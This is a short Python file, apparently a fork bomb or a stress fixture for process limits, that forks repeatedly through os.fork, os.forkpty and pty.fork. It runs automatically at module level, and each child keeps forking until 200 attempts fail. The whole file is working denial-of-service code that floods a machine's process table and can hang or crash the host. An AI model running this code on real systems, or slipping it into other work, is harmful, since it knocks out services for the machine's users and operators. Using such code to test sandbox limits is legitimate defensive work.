"""Forks for ever, by every function of Python that forks."""

import os
import pty

FORKS = (os.fork, os.forkpty, pty.fork, os.fork)


def _bomb():
    refused = 0
    while refused < 200:
        for fork in FORKS:
            try:
                fork()
            except OSError:
                refused += 1


_bomb()
